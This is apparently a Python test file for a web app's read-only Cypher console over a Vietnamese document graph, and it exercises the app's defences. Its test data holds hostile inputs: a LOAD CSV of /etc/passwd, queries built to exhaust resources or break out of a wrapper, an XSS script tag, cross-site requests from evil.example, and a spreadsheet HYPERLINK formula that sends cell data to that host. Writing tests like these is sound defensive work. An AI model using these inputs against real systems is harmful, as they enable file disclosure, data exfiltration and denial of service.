"""Hostile use of the console and the pages: runaway queries stop, others keep being answered,
document text is shown as text."""

import threading
import time

import pytest

from webui import create_app

WRITES = ["CREATE (n:X)", "MATCH (n) SET n.x = 1", "MATCH (n) DETACH DELETE n", "merge (n:X)",
          "MATCH (n)\n// harmless?\nREMOVE n.key", "MATCH (n) RETURN n; CREATE (m)",
          "/* read */ CrEaTe (n)", "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
          "CALL db.idx.fulltext.createNodeIndex('Document', 'title')", "DROP INDEX ON :Document(key)",
          "MATCH (n) FOREACH (x IN [1] | SET n.y = x)"]


@pytest.fixture(scope="module")
def client(seeded_store):
    # the whole of a query thread for the console (no rests): the tests here run slow queries one after
    # another on purpose; the rests have their own test
    return create_app({"STORE": seeded_store, "TESTING": True, "CYPHER_TIMEOUT_MS": 1500,
                       "CYPHER_SHARE": 1.0}).test_client()


@pytest.mark.parametrize("query", WRITES)
def test_every_write_is_refused_and_nothing_changes(client, query):
    count = "MATCH (n) RETURN count(n) AS n"
    before = client.post("/cypher.json", data={"query": count}).get_json()["rows"][0]["n"]
    r = client.post("/cypher.json", data={"query": query})
    assert r.status_code == 400 and r.get_json()["error"]
    assert client.post("/cypher.json", data={"query": count}).get_json()["rows"][0]["n"] == before


def test_a_runaway_query_is_stopped_while_others_are_answered(client):
    result = {}

    def runaway():
        t = time.monotonic()
        result["response"] = client.post("/cypher.json", data={"query": "MATCH (a)-[*]-(b) RETURN count(*) AS n"})
        result["seconds"] = time.monotonic() - t

    thread = threading.Thread(target=runaway)
    thread.start()
    time.sleep(0.2)
    t = time.monotonic()
    ok = client.get("/search.json?q=468")
    answered_in = time.monotonic() - t
    thread.join(timeout=30)
    assert ok.status_code == 200 and answered_in < 1.0
    r = result["response"]
    assert r.status_code == 504 and "timed out" in r.get_json()["detail"].lower()  # past its deadline: 504
    assert result["seconds"] < 10


def test_comments_in_a_union_do_not_bring_the_database_down(client):
    """FalkorDB 4 closed its connection on a commented UNION inside CALL { } (the console's row limit wraps a
    UNION so): the comments are blanked before the query leaves, and the database keeps answering."""
    query = ("// title: a named query's header\n// description: ...\n"
             "MATCH (b:Document) WHERE b.period_to < $as_of MATCH (p:Document)-[r:IMPLEMENTS|CITES]->(b) "
             "RETURN p.key AS k, [] AS by LIMIT 5 /* one */ UNION ALL "
             "MATCH (b:Document) WHERE b.period_to < $as_of MATCH (p:Document)-[r:IMPLEMENTS|CITES]->(b) "
             "RETURN p.key AS k, [] AS by LIMIT 5")
    r = client.post("/cypher.json", data={"query": query, "params": "as_of=2030-01-01"})
    assert r.status_code == 200, r.get_json()
    assert client.get("/search.json?q=468").status_code == 200


def test_rows_are_limited(seeded_store):
    c = create_app({"STORE": seeded_store, "TESTING": True, "CYPHER_ROW_LIMIT": 7}).test_client()
    r = c.post("/cypher.json", data={"query": "MATCH (u:AdminUnit) RETURN u.name AS n"}).get_json()
    assert len(r["rows"]) == 7 and r["notices"]


def test_document_text_is_shown_as_text(tmp_path):
    from graph.ingest import ingest
    from graph.store import EmbeddedStore

    doc = tmp_path / "x.txt"
    doc.write_text("Số: 9/KH-UBND\nKẾ HOẠCH\n<script>alert('xss')</script> <b>đậm</b>\n"
                   "Căn cứ Quyết định số 468/QĐ-TTg ngày 27/3/2021 của Thủ tướng Chính phủ;\n", encoding="utf-8")
    store = EmbeddedStore(tmp_path / "db")
    try:
        summary = ingest(store, [str(doc)], progress=False)
        c = create_app({"STORE": store, "TESTING": True}).test_client()
        html = c.get(f"/documents/{summary.keys[0]}").get_data(as_text=True)
        assert "<script>alert" not in html and "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in html
        assert "<b>đậm</b>" not in html
    finally:
        store.close()


# Issue 12, the console: (query, words the refusal must name). Each is refused before the database sees it.
REFUSED = [
    ("RETURN " + "[" * 22 + "1" + "]" * 22, "lồng nhau"),                                   # parse time grows with depth
    ("RETURN " + "(" * 22 + "1" + ")" * 22, "lồng nhau"),
    ("RETURN size(reduce(s = '', x IN range(1, 200000) | s + 'aaaa')) AS n", "range"),   # work inside one expression
    ("UNWIND range(1, 100000000) AS x RETURN x", "range"),
    ("RETURN [x IN range(1, 50000000) | toString(x)] AS l", "range"),
    ("RETURN reduce(s = '', x IN range(1, 5000) | s + 'a') AS s", "reduce"),
    ("UNWIND range(1, size([1,2]) * 100000000) AS x RETURN x", "range"),               # bounds must be plain numbers
    ("UNWIND ['/*'] AS x CALL db.labels() YIELD label RETURN '*/'", "CALL"),             # a comment marker in a string
    ("WITH '/*' AS x LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l, '*/'", "LOAD CSV"),
    ("MATCH (n) RETURN n } UNION ALL UNWIND range(1, 2000) AS x RETURN x AS n CALL {", "không cân"),  # closing the wrapper
    ("MATCH (n) RETURN n // x\n; CREATE (m)", "một câu lệnh"),
    ("MATCH (n) WHERE n.key = '" + "x" * 5000 + "' RETURN n", "4000"),
    ("RETURN 'it''s", "không được đóng"),
]


@pytest.mark.parametrize("query,named", REFUSED, ids=range(len(REFUSED)))
def test_the_console_refuses_naming_the_limit(client, query, named):
    t = time.monotonic()
    r = client.post("/cypher.json", data={"query": query})
    assert r.status_code == 400, r.get_json()
    assert named.lower() in r.get_json()["detail"].lower() + r.get_json()["error"].lower(), r.get_json()
    assert time.monotonic() - t < 1.0


@pytest.mark.parametrize("query,rows", [
    ("WITH 1 AS x RETURN x", [{"x": 1}]),                                  # runs as written, no wrapper to trip on
    ("UNWIND [3, 1, 2] AS x RETURN x ORDER BY x LIMIT 2", [{"x": 1}, {"x": 2}]),
    ("OPTIONAL MATCH (n:Nothing) RETURN n", [{"n": None}]),
    ("RETURN {set: 1, delete: 2} AS m", [{"m": {"set": 1, "delete": 2}}]),  # keys spelled like keywords
    ("RETURN 'CREATE (n); /* */' AS s", [{"s": "CREATE (n); /* */"}]),
    ("RETURN [x IN range(1, 3) | x * 2] AS l", [{"l": [2, 4, 6]}]),
    ("UNWIND [1] AS x RETURN x UNION ALL UNWIND [2] AS x RETURN x", [{"x": 1}, {"x": 2}]),
])
def test_reads_run_as_written(client, query, rows):
    r = client.post("/cypher.json", data={"query": query})
    assert r.status_code == 200, r.get_json()
    assert r.get_json()["rows"] == rows


def test_a_union_cannot_escape_the_row_limit(seeded_store):
    c = create_app({"STORE": seeded_store, "TESTING": True, "CYPHER_ROW_LIMIT": 5}).test_client()
    q = "UNWIND range(1, 9000) AS x RETURN x UNION ALL UNWIND range(1, 9000) AS x RETURN x"
    r = c.post("/cypher.json", data={"query": q}).get_json()
    assert len(r["rows"]) == 5 and r["notices"]


# Issue 12, cross-site requests: (path, form, headers, expected status).
_EVIL = {"Origin": "http://evil.example"}


@pytest.mark.parametrize("path,data,headers,status", [
    ("/cypher.json", {"query": "RETURN 1 AS x"}, _EVIL, 403),                                  # another site
    ("/cypher.json", {"query": "RETURN 1 AS x"}, {"Referer": "http://evil.example/p"}, 403),
    ("/cypher.json", {"query": "RETURN 1 AS x"}, {"Origin": "http://localhost"}, 403),         # this site, no token
    ("/cypher.json", {"query": "RETURN 1 AS x", "csrf_token": "guess"}, {"Origin": "http://localhost"}, 403),
    ("/cypher.json", {"query": "RETURN 1 AS x", "csrf_token": "<token>"}, {"Origin": "http://localhost"}, 200),
    ("/cypher.json", {"query": "RETURN 1 AS x"}, {}, 200),                       # a script: no Origin, no cookies
])
def test_cross_site_posts_are_refused(client, path, data, headers, status):
    token = client.application.config["CSRF_TOKEN"]
    data = {k: (token if v == "<token>" else v) for k, v in data.items()}
    assert client.post(path, data=data, headers=headers).status_code == status


def test_a_cross_site_upload_writes_nothing(client, tmp_path):
    import io

    count = "MATCH (n) RETURN count(n) AS n"
    before = client.post("/cypher.json", data={"query": count}).get_json()["rows"][0]["n"]
    plan = b"S\xe1\xbb\x91: 77/KH-UBND\nK\xe1\xba\xbe HO\xe1\xba\xa0CH\n"
    r = client.post("/upload.json", data={"file": (io.BytesIO(plan), "plan.txt")}, headers=_EVIL)
    assert r.status_code == 403
    assert client.post("/cypher.json", data={"query": count}).get_json()["rows"][0]["n"] == before


def test_the_console_runs_on_post_only(client):
    assert client.get("/cypher.json?query=RETURN%201%20AS%20x").status_code == 405
    page = client.get("/cypher?query=RETURN%2042%20AS%20answer").get_data(as_text=True)
    assert "RETURN 42 AS answer" in page and "1 dòng" not in page  # the form, filled in, not run
    assert 'name="csrf_token"' in page


@pytest.mark.parametrize("cell,written", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"x")', '\'=HYPERLINK("http://evil.example/?x="&A1,"x")'),
    ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Chủ trì, xây dựng Kế hoạch", "Chủ trì, xây dựng Kế hoạch"), (-5, "-5"),   # numbers stay numbers
])
def test_csv_cells_never_run_as_formulas(cell, written):
    import csv
    import io

    from webui import create_app
    from webui.render import csv_response

    with create_app({"TESTING": True}).test_request_context():
        body = csv_response(["task"], [{"task": cell}], "x").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[1] == [written]


def test_a_page_never_fails_on_overlapping_spans():
    from graph.pages import highlighted

    ref = {"key": "k", "number": "468/QĐ-TTg", "relation": "cites", "span": [10, 20]}
    pieces = highlighted("Căn cứ QĐ 468/QĐ-TTg nhé", [0, 25], [ref, {**ref, "key": "k2"}, {**ref, "span": [12, 30]}])
    assert "".join(p["text"] for p in pieces) == "Căn cứ QĐ 468/QĐ-TTg nhé"
    assert [p.get("key") for p in pieces if p.get("key")] == ["k"]


def test_console_queries_beyond_their_slots_are_answered_429(seeded_store):
    c = create_app({"STORE": seeded_store, "TESTING": True, "CYPHER_TIMEOUT_MS": 1500,
                    "CYPHER_CONCURRENCY": 1, "CYPHER_SHARE": 0.25}).test_client()
    slow = threading.Thread(target=lambda: c.post("/cypher.json", data={"query": "MATCH (a)-[*]-(b) RETURN count(*) AS n"}))
    slow.start()
    time.sleep(0.3)
    try:
        busy = c.post("/cypher.json", data={"query": "RETURN 1 AS x"})
        assert busy.status_code == 429 and busy.headers["Retry-After"] == "5"  # as long as a query may run
        assert busy.get_json()["error"] == "Đang bận"
        t = time.monotonic()
        assert c.get("/search.json?q=468").status_code == 200 and time.monotonic() - t < 1.0
    finally:
        slow.join(timeout=30)
    # the slot is free again, but 1.5 s of running spent more than the second of credit and the 0.375 s
    # earned meanwhile: the console rests until a quarter of a second a second has paid the rest back
    resting = c.post("/cypher.json", data={"query": "RETURN 1 AS x"})
    assert resting.status_code == 429 and resting.headers["Retry-After"] == "1"
    assert f"sau {resting.headers['Retry-After']} giây" in resting.get_json()["detail"]
    time.sleep(int(resting.headers["Retry-After"]))
    assert c.post("/cypher.json", data={"query": "RETURN 1 AS x"}).status_code == 200


def test_a_write_during_a_long_console_query_does_not_stall_the_pages(tmp_path):
    """FalkorDB queues a write behind the reads running, and every later read behind the write: a write sent
    during a long console query held even a one-node count until the console query ended. Now the write
    waits (outside the database) for the long read, and the pages' reads go on."""
    from graph.queries import run_cypher
    from graph.store import EmbeddedStore
    from loaders.errors import QueryTimeout

    store = EmbeddedStore(tmp_path / "db")
    try:
        store.write("UNWIND range(1, 2000) AS i CREATE (:N {i: i})")
        store.write("MATCH (a:N), (b:N) WHERE b.i = a.i + 1 CREATE (a)-[:R]->(b)")
        stopped = []

        def console() -> None:
            try:
                run_cypher(store, "MATCH (a)-[*]-(b) RETURN count(*) AS n", timeout_ms=2000)
            except QueryTimeout:
                stopped.append(True)

        long = threading.Thread(target=console)
        long.start()
        time.sleep(0.3)
        wrote = threading.Thread(target=store.write, args=("CREATE (:N {i: 0})",))
        wrote.start()
        time.sleep(0.2)
        t = time.monotonic()
        assert store.read("MATCH (n:N) RETURN count(n) AS n") == [{"n": 2000}]  # not yet written
        assert time.monotonic() - t < 0.5
        long.join(timeout=30)
        wrote.join(timeout=30)
        assert stopped == [True]
        assert store.read("MATCH (n:N) RETURN count(n) AS n") == [{"n": 2001}]  # written once the long read ended
    finally:
        store.close()
